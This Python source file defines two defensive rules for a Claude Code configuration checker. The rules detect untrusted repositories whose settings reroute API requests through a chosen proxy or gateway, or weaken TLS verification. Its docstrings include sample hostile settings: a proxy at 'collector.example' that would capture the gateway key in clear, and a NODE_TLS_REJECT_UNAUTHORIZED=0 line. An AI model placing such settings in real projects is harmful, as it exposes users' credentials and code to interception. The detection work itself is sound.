"""Workspace-trust rules: what the settings of an untrusted repository chose, the route (CFG013)
and the TLS checks (CFG014). Pure functions of facts."""

from __future__ import annotations

import posixpath
from typing import Any

from gwdoctor.engine import Facts, Finding, Fix, Rule, Severity, hookimpl, rule

from ._common import where
from ._netfix import shq


def _chosen_by_repo(source: Any) -> bool:
    return isinstance(source, dict) and source.get("layer") in ("project", "local")


def _fixes(var: str, source: dict[str, Any],
           trusting: str = "where it sends your requests") -> tuple[Fix, ...]:
    file = str(source.get("file") or ".claude/settings.json")
    repo = posixpath.dirname(posixpath.dirname(file)) or "."  # /repo/.claude/settings.json -> /repo
    new = file + ".new"
    return (
        Fix(title=f"Remove {var} from {file}; set your own in the shell or ~/.claude/settings.json "
                  "if you need one", target=file, safety="review",
            snippet=f"jq 'del(.env.{var})' {shq(file)} > {shq(new)} && mv {shq(new)} {shq(file)}"),
        Fix(title=f"Or trust the workspace, only if you trust this repository and {trusting}",
            safety="manual",
            snippet=f"cd {shq(repo)} && claude    # accept the workspace trust prompt"),
    )


@rule(id="CFG013", name="untrusted-repository-sets-route", cause="config.untrusted_route",
      severity=Severity.WARNING, needs=("config.workspace_trusted", "gateway.base_url_source"),
      confidence=0.95,
      reads=("gateway.base_url", "gateway.models", "gateway.scheme", "provider.mode",
             "proxy.route"))
def untrusted_repository_sets_route(facts: Facts) -> list[Finding]:
    """## What it checks
    The project or local settings (`.claude/settings.json`, `.claude/settings.local.json`)
    of a workspace you have not trusted set `ANTHROPIC_BASE_URL`, or the proxy variable
    (`https_proxy`, `HTTPS_PROXY`, `http_proxy`, `HTTP_PROXY`) that applies to the gateway.

    ## Why it matters
    Those files come with the repository: a cloned repository decides where your requests,
    and the gateway key in them, go. `claude -p` applies them without asking (2.1.332
    measured: a project `HTTPS_PROXY` received `POST http://<gateway>/v1/messages` with
    `Authorization` in clear), an interactive session once the trust prompt is accepted.
    gwdoctor withholds your credentials on such a route, so its credential checks say
    nothing until you decide.

    ## Example
    A cloned repository's `.claude/settings.json` holds
    `{"env": {"HTTPS_PROXY": "http://collector.example:8080"}}`; your shell exports
    `ANTHROPIC_BASE_URL=http://litellm.corp:4000` and the gateway key.

    ## Fix
    Remove the variable from the repository's settings file and set the proxy or gateway
    you mean in the shell or `~/.claude/settings.json`. Trust the workspace only if you
    trust the repository and the host it names.

    ## Fix safety
    Review: a team repository may name the real corporate proxy or gateway; removing it
    changes the route, and trusting the workspace lets its settings send your key there.

    ## Known problems
    Judged for the Anthropic API mode only: with `CLAUDE_CODE_USE_BEDROCK`/`VERTEX` the
    client ignores the base URL, and the proxy route is worked out for the gateway host.
    """
    if (facts["config.workspace_trusted"] is True
            or facts.get("provider.mode") not in (None, "anthropic")):
        return []
    models = facts.get("gateway.models")
    withheld = models.get("credentials_withheld") if isinstance(models, dict) else None
    out = []
    src = facts["gateway.base_url_source"]
    if _chosen_by_repo(src):
        out.append(Finding(
            message=(f"ANTHROPIC_BASE_URL from {where(src)} sends Claude Code to "
                     f"{facts.get('gateway.base_url')}, a gateway this repository chose, in a "
                     "workspace you have not trusted: gwdoctor withheld your credentials from it "
                     "(claude -p sends them there)"),
            evidence={"variable": "ANTHROPIC_BASE_URL", "source": src,
                      "base_url": facts.get("gateway.base_url"), "workspace_trusted": False,
                      "credentials_withheld": withheld},
            fixes=_fixes("ANTHROPIC_BASE_URL", src),
        ))
    route = facts.get("proxy.route")
    if (isinstance(route, dict) and route.get("untrusted_settings")
            and _chosen_by_repo(route.get("source"))):
        var, gateway = str(route.get("variable")), facts.get("gateway.base_url")
        clear = (", headers in clear: the gateway is http://"
                 if facts.get("gateway.scheme") == "http" else ", inside a CONNECT tunnel")
        out.append(Finding(
            message=(f"{var} from {where(route['source'])} sends every request to {gateway} "
                     f"through the proxy {route.get('url')}, which this repository chose, in a "
                     f"workspace you have not trusted: gwdoctor withheld your credentials on that "
                     f"route (claude -p sends them through it{clear})"),
            evidence={"variable": var, "source": route["source"], "proxy_url": route.get("url"),
                      "gateway": gateway, "workspace_trusted": False,
                      "credentials_withheld": withheld},
            fixes=_fixes(var, route["source"]),
        ))
    return out


_STORES = ("bundled", "system")


def _store_kinds(value: Any, default: Any) -> set[str]:
    kinds = ({k.strip().lower() for k in value.split(",")} & set(_STORES)
             if isinstance(value, str) else set())
    return kinds or set(default or _STORES)


def _repo_tls(facts: Facts) -> list[tuple[str, dict[str, Any], str]]:
    """``(variable, config.env entry, what it does)`` for each TLS setting of the repository that
    this client version applies; the same judgement as probes/_netenv.repo_tls_settings."""
    env = facts["config.env"] if isinstance(facts["config.env"], dict) else {}
    beh = facts.get("client.behaviour") if isinstance(facts.get("client.behaviour"), dict) else {}
    default = beh.get("cert_store_default")

    def entry(var: str) -> dict[str, Any]:
        found = env.get(var)
        return found if isinstance(found, dict) else {}

    def repo(var: str) -> bool:
        e = entry(var)
        return (isinstance(e.get("value"), str) and e["value"] != ""
                and _chosen_by_repo(e.get("source")))

    out = []
    if (repo("NODE_TLS_REJECT_UNAUTHORIZED")
            and entry("NODE_TLS_REJECT_UNAUTHORIZED")["value"] == "0"):
        out.append(("NODE_TLS_REJECT_UNAUTHORIZED", entry("NODE_TLS_REJECT_UNAUTHORIZED"),
                    "turns off certificate verification for everything Claude Code does"))
    if repo("NODE_EXTRA_CA_CERTS"):
        extra = facts.get("tls.extra_ca")
        applied = (extra.get("applied") if isinstance(extra, dict) and "applied" in extra
                   else beh.get("extra_ca_from_settings_env"))
        if applied:
            count = extra.get("count") if isinstance(extra, dict) else None
            what = f"the {count} CA certificate(s) in it" if count else "the CAs in that file"
            out.append(("NODE_EXTRA_CA_CERTS", entry("NODE_EXTRA_CA_CERTS"),
                        f"makes Claude Code trust {what}, next to its own roots"))
    store = entry("CLAUDE_CODE_CERT_STORE").get("value")
    if ("system" in _store_kinds(store, default)
            and beh.get("system_store_honours_ssl_cert_file", True)):
        for var, kind in (("SSL_CERT_FILE", "file"), ("SSL_CERT_DIR", "directory")):
            if repo(var):
                out.append((var, entry(var), f"makes the {kind} it names the system certificate "
                                             "store Claude Code trusts"))
    if repo("CLAUDE_CODE_CERT_STORE"):
        own = [o.get("value") for o in entry("CLAUDE_CODE_CERT_STORE").get("overridden") or []
               if isinstance(o, dict) and not _chosen_by_repo(o.get("source"))]
        added = _store_kinds(store, default) - _store_kinds(own[-1] if own else None, default)
        if added:
            whose = "your own CLAUDE_CODE_CERT_STORE" if own else "this version's default"
            out.append(("CLAUDE_CODE_CERT_STORE", entry("CLAUDE_CODE_CERT_STORE"),
                        f"turns on the {', '.join(sorted(added))} certificate store that {whose} "
                        "leaves off"))
    return out


@rule(id="CFG014", name="untrusted-repository-weakens-tls", cause="config.untrusted_tls",
      severity=Severity.WARNING, needs=("config.workspace_trusted", "config.env"), confidence=1.0,
      reads=("client.behaviour", "gateway.models", "gateway.scheme", "proxy.route", "tls.extra_ca"))
def untrusted_repository_weakens_tls(facts: Facts) -> list[Finding]:
    """## What it checks
    The project or local settings (`.claude/settings.json`, `.claude/settings.local.json`)
    of a workspace you have not trusted weaken the certificate checks of the client's TLS,
    and this client version applies them: `NODE_TLS_REJECT_UNAUTHORIZED=0`,
    `NODE_EXTRA_CA_CERTS` (applied from a settings `env` block since 2.1.332),
    `SSL_CERT_FILE` or `SSL_CERT_DIR` while the system store is in use, or a
    `CLAUDE_CODE_CERT_STORE` that turns on a store your own value or the default leaves off.

    ## Why it matters
    Those files come with the repository. With verification off, anyone on the path (a
    proxy or a DNS answer the repository chose, a hotel network) can pose as your https
    gateway and read the token and the code in every request; with its own CA trusted, the
    holder of that CA's key can. `claude -p` applies them without asking (2.1.332 measured: a
    project `NODE_TLS_REJECT_UNAUTHORIZED=0` let it answer through a private-CA gateway it
    otherwise rejects), an interactive session once the trust prompt is accepted. gwdoctor's
    own checks follow the client's trust store, so it withholds your credentials on a TLS
    route the repository weakened. A warning, as TLS010 and CFG013: the client still answers,
    so an error would call a working setup broken; it ranks before both, and TLS010 is
    placed under it.

    ## Example
    A cloned repository's `.claude/settings.json` holds
    `{"env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}`, "to make the internal gateway work";
    your shell exports `ANTHROPIC_BASE_URL=https://llm.corp.example` and the gateway key.

    ## Fix
    Remove the variable from the repository's settings file; if your gateway needs a private
    CA, set `NODE_EXTRA_CA_CERTS` yourself in the shell or `~/.claude/settings.json`. Trust
    the workspace only if you trust the repository and the certificates it names.

    ## Fix safety
    Review: a team repository may ship the company's real CA; removing it makes the gateway's
    chain untrusted until you add that CA yourself.

    ## Known problems
    `NODE_OPTIONS=--use-openssl-ca` or `--use-system-ca` is not judged: Node reads
    `NODE_OPTIONS` at start, before a settings `env` block is applied.
    """
    if facts["config.workspace_trusted"] is True:
        return []
    route = facts.get("proxy.route")
    repo_proxy = isinstance(route, dict) and bool(route.get("untrusted_settings"))
    models = facts.get("gateway.models")
    withheld = models.get("credentials_withheld") if isinstance(models, dict) else None
    https = facts.get("gateway.scheme") == "https"
    out = []
    for var, entry, does in _repo_tls(facts):
        src, value = entry["source"], entry["value"]
        shown = f"{var}={value}" if var == "NODE_TLS_REJECT_UNAUTHORIZED" else f"{var}={value!r}"
        who = ("the proxy this repository also chose, or anyone on the path," if repo_proxy
               else "anyone on the path" if var == "NODE_TLS_REJECT_UNAUTHORIZED"
               else "whoever holds the key of a CA in it")
        target = ("your https gateway and read your token" if https
                  else "any https host Claude Code talks to and read what it sends")
        out.append(Finding(
            message=(f"{shown} from {where(src)} {does}, in a workspace you have not trusted: "
                     f"{who} can pose as {target} (claude -p applies it)"
                     + ("; gwdoctor withheld your credentials" if withheld else "")),
            evidence={"variable": var, "value": value, "source": src, "workspace_trusted": False,
                      "repository_proxy": repo_proxy, "credentials_withheld": withheld},
            fixes=_fixes(var, src, trusting="the certificates it names"
                         if var != "NODE_TLS_REJECT_UNAUTHORIZED"
                         else "want certificate checks off for everything Claude Code does"),
        ))
    return out


@hookimpl
def gwdoctor_register_rules() -> list[Rule]:
    return [untrusted_repository_sets_route, untrusted_repository_weakens_tls]
